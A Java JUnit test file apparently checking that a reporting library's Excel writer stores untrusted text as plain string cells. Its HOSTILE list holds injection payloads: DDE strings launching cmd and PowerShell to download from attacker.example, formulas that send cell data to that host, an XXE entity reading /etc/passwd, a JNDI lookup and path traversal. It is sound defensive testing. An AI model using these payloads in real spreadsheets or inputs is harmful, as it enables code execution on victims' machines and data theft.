package io.github.liuding.reporting.excel;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.liuding.reporting.internal.XmlBytes;
import io.github.liuding.reporting.table.CellTypes;
import io.github.liuding.reporting.table.Column;
import io.github.liuding.reporting.table.ReportTable;
import java.io.IOException;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.function.Function;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** A text stays the text it was, whatever it looks like. */
class ExcelWriterTextTest {
    private static final List<String> HOSTILE = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=cmd|' /C powershell IEX(wget attacker.example/x)'!A1",
            "=HYPERLINK(\"http://attacker.example?\"&A1,\"点击\")",
            "=WEBSERVICE(\"http://attacker.example/\"&A1)",
            "=IMPORTXML(CONCAT(\"http://attacker.example\",CONCATENATE(A2:E2)),\"//a\")",
            "=DDE(\"cmd\",\"/C calc\",\"!A0\")",
            "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
            "=1+1\";=1+1",
            "==1",
            "=",
            "+1+1",
            "+cmd|' /C calc'!A0",
            "+",
            "-2+3+cmd|' /C calc'!A0",
            "-",
            "--1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "@",
            "@=1+1",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u00A0=1+1",
            "\uFEFF=1+1",
            "\u200B=1+1",
            "＝1+1",
            "{=1+1}",
            "'=1+1",
            "\"=1+1\"",
            ";=1+1",
            "%0A=1+1",
            "=1+1\n=2+2",
            "</t></is></c><c r=\"Z9\"><f>1+1</f></c>",
            "<f>1+1</f>",
            "]]>",
            "<![CDATA[x]]>",
            "&lt;&#0;&#x3D;&amp;",
            "<!-- x -->",
            "<?xml version=\"1.0\"?>",
            "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;",
            "_x003D_1+1",
            "_x005F_x003D_",
            "_x0000_",
            "\u202E=1+1",
            "${jndi:ldap://attacker.example/a}",
            "#{7*7}",
            "%s%n%1$999999d",
            "\\\\attacker.example\\share",
            "javascript:alert(1)",
            "../../../etc/passwd",
            "[book.xlsx]Sheet1!A1",
            "#REF!",
            "TRUE",
            "NULL",
            "1e999",
            "0001",
            "1/2",
            "2021-04-30",
            "35%",
            "\uD83D\uDE00",
            "控制\u0000\u0001\u0008\u000B\u001F字符",
            "半个\uD83D代理",
            "半个\uDE00代理",
            "\uFFFE\uFFFF",
            "",
            " ",
            "  两边  有空格  ",
            "第一行\r\n第二行\r第三行\n");

    private static ReportTable<String> everywhere(String name, String text) {
        return ReportTable.<String>of(name, List.of(text, text))
                .title(text)
                .issuer(text)
                .asOf(text)
                .marking(text)
                .note(text)
                .column(Column.<String, String>of("事项" + text, CellTypes.TEXT, Function.identity()))
                .column(Column.<String, String>of("合并", CellTypes.TEXT, Function.identity())
                        .mergedBy(Function.identity()))
                .column(Column.<String, String>optional("缺项", CellTypes.TEXT, row -> Optional.empty())
                        .whenMissing(text));
    }

    @Test
    void a_hostile_text_is_a_text_wherever_it_stands() throws IOException {
        List<ReportTable<?>> tables = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            tables.add(everywhere("第" + i, HOSTILE.get(i)));
        }
        String all = String.join("", HOSTILE);
        Written written =
                Written.of(ExcelWriter.standard(), new ReportWorkbook(all, all, LocalDate.of(2026, 3, 31), tables));

        ReadBack.assertHolds(written, tables.toArray(ReportTable<?>[]::new));
        assertThat(written.parts().keySet())
                .as("parts other than sheets")
                .filteredOn(part -> !part.startsWith("xl/worksheets/sheet"))
                .containsExactlyInAnyOrder(
                        "[Content_Types].xml",
                        "_rels/.rels",
                        "docProps/app.xml",
                        "docProps/core.xml",
                        "xl/styles.xml",
                        "xl/_rels/workbook.xml.rels",
                        "xl/workbook.xml");
        try (XSSFWorkbook read = written.poi()) {
            read.forEach(sheet ->
                    sheet.forEach(row -> assertThat(ReadBack.types(row)).isSubsetOf(CellType.STRING, CellType.BLANK)));
            assertThat(read.getProperties().getCoreProperties().getTitle()).isEqualTo(XmlBytes.valid(all));
            assertThat(read.getProperties().getCoreProperties().getCreator()).isEqualTo(XmlBytes.valid(all));
        }
    }

    @Test
    void a_text_that_begins_like_a_formula_stays_a_text_when_it_is_edited() throws IOException {
        try (XSSFWorkbook workbook = Written.of(Samples.texts(HOSTILE)).poi()) {
            for (int i = 0; i < HOSTILE.size(); i++) {
                XSSFCell cell =
                        workbook.getSheetAt(0).getRow(Written.FIRST - 1 + i).getCell(0);
                assertThat(cell.getCellStyle().getQuotePrefixed())
                        .as(HOSTILE.get(i))
                        .isEqualTo(HOSTILE.get(i).matches("(?s)[=+@-].*"));
            }
        }
    }

    @Test
    void the_longest_text_that_a_cell_can_hold_is_read_back() throws IOException {
        String longest = "长".repeat(32_766) + "尾";
        Written written = Written.of(Samples.texts(longest));
        ReadBack.assertHolds(written, Samples.texts(longest));
        try (XSSFWorkbook workbook = written.poi()) {
            assertThat(workbook.getSheetAt(0)
                            .getRow(Written.FIRST - 1)
                            .getCell(0)
                            .getStringCellValue())
                    .isEqualTo(longest);
        }
    }

    @Test
    void space_is_kept() {
        ReportTable<String> table = Samples.texts(" 前", "后 ", "\n前", "后\t", "　前", "中  间", " ", "\n");
        ReadBack.assertHolds(Written.of(table), table);
    }
}
